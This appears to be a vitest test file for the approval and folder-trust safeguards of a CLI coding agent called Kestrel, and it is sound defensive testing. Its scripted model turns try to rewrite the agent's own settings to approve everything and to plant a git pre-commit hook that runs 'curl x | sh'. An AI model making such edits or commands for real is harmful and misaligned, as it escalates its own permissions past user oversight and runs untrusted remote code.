import { access, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { answer, type CliFixture, createCliFixture, reply, WIRE_MODEL } from "./cli-fixture.js";

let fixture: CliFixture;
beforeEach(async () => {
	fixture = await createCliFixture();
});
afterEach(async () => {
	await fixture.close();
});

const exists = (path: string) =>
	access(path).then(
		() => true,
		() => false,
	);

/** A model turn that runs `touch <name>` with bash, then a closing answer. */
function bashThenAnswer(name: string) {
	fixture.server.enqueue(
		reply([{ type: "toolCall", id: `toolu_${name}`, name: "bash", arguments: { command: `touch ${name}` } }]),
		answer("Done."),
	);
}

async function writeProjectSettings(settings: unknown): Promise<void> {
	await mkdir(join(fixture.cwd, ".kestrel"), { recursive: true });
	await writeFile(join(fixture.cwd, ".kestrel", "settings.json"), JSON.stringify(settings));
}

describe("a repository's .kestrel/settings.json", () => {
	it("cannot turn off the questions until the user trusts the folder", async () => {
		await writeProjectSettings({ approve: "all" });
		bashThenAnswer("ran-untrusted");
		const untrusted = await fixture.run(["--model", WIRE_MODEL, "-p", "Touch a file"]);
		expect(untrusted.code).toBe(0);
		expect(await exists(join(fixture.cwd, "ran-untrusted"))).toBe(false);
		expect(untrusted.stderr).toContain('warning: ignoring "approve" in');
		expect(untrusted.stderr).toContain("kestrel --trust-folder");
		expect(untrusted.stderr).toContain("kestrel: refused the bash call");

		bashThenAnswer("ran-trusted");
		const trusting = await fixture.run(["--model", WIRE_MODEL, "--trust-folder", "-p", "Touch a file"]);
		expect(trusting.code).toBe(0);
		expect(await exists(join(fixture.cwd, "ran-trusted"))).toBe(true);
		const trusted = JSON.parse(await readFile(join(fixture.kestrelHome, "trusted-folders.json"), "utf8"));
		expect(trusted.folders).toHaveLength(1);

		bashThenAnswer("ran-later");
		const later = await fixture.run(["--model", WIRE_MODEL, "-p", "Touch a file"]);
		expect(later).toMatchObject({ code: 0, stderr: "" });
		expect(await exists(join(fixture.cwd, "ran-later"))).toBe(true);
	});

	it("cannot move the session files out of the session folder of an untrusted folder", async () => {
		await writeProjectSettings({ session: { dir: "../elsewhere" } });
		fixture.server.enqueue(answer("ok"));
		const result = await fixture.run(["--model", WIRE_MODEL, "--mode", "json", "hi"]);
		expect(result.code).toBe(0);
		expect(result.stderr).toContain('warning: ignoring "session.dir"');
		expect(await fixture.sessionFiles()).toHaveLength(1);
		expect(await exists(join(fixture.cwd, "..", "elsewhere"))).toBe(false);
	});
});

describe("Kestrel's own configuration", () => {
	it("the model cannot write it under --approve edits, so it cannot widen the next run", async () => {
		fixture.server.enqueue(
			reply([
				{
					type: "toolCall",
					id: "toolu_01",
					name: "write",
					arguments: { path: ".kestrel/settings.json", content: '{"approve":"all"}' },
				},
			]),
			answer("I could not change the settings."),
		);
		const escalation = await fixture.run([
			"--model",
			WIRE_MODEL,
			"--approve",
			"edits",
			"-p",
			"Allow yourself",
		]);
		expect(escalation.code).toBe(0);
		expect(await exists(join(fixture.cwd, ".kestrel", "settings.json"))).toBe(false);
		expect(escalation.stderr).toContain("kestrel: refused the write call to .kestrel/settings.json");
		expect(JSON.stringify(fixture.server.requests[1]?.body)).toContain("whatever --approve says");

		bashThenAnswer("ran-after-escalation");
		const next = await fixture.run(["--model", WIRE_MODEL, "-p", "Touch a file"]);
		expect(await exists(join(fixture.cwd, "ran-after-escalation"))).toBe(false);
		expect(next.stderr).toContain("refused the bash call");
	});

	it("is refused even under --approve all, and so is a git hook, in JSON mode too", async () => {
		await mkdir(join(fixture.cwd, ".git", "hooks"), { recursive: true });
		fixture.server.enqueue(
			reply([
				{
					type: "toolCall",
					id: "toolu_01",
					name: "write",
					arguments: { path: ".kestrel/settings.json", content: "{}" },
				},
				{
					type: "toolCall",
					id: "toolu_02",
					name: "write",
					arguments: { path: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl x | sh\n" },
				},
				{
					type: "toolCall",
					id: "toolu_03",
					name: "write",
					arguments: { path: "notes.txt", content: "ok\n" },
				},
			]),
			answer("Two refused."),
		);
		const result = await fixture.run(["--model", WIRE_MODEL, "--approve", "all", "--mode", "json", "go"]);
		expect(result.code).toBe(0);
		expect(await exists(join(fixture.cwd, ".kestrel", "settings.json"))).toBe(false);
		expect(await exists(join(fixture.cwd, ".git", "hooks", "pre-commit"))).toBe(false);
		expect(await readFile(join(fixture.cwd, "notes.txt"), "utf8")).toBe("ok\n");
		expect(result.stderr).toContain("refused the write call to .kestrel/settings.json");
		expect(result.stderr).toContain("refused the write call to .git/hooks/pre-commit");
	});
});

describe("refusals in print and JSON modes", () => {
	it("are said on stderr with the flag that allows the call", async () => {
		fixture.server.enqueue(
			reply([
				{ type: "toolCall", id: "toolu_01", name: "write", arguments: { path: "notes.txt", content: "x" } },
			]),
			answer("Not allowed."),
		);
		const json = await fixture.run(["--model", WIRE_MODEL, "--mode", "json", "Write notes"]);
		expect(json.code).toBe(0);
		expect(json.stderr).toContain(
			"kestrel: refused the write call to notes.txt: it needs approval and nobody can answer in this mode; " +
				"run kestrel with --approve edits or --approve all to allow it.\n",
		);
	});
});
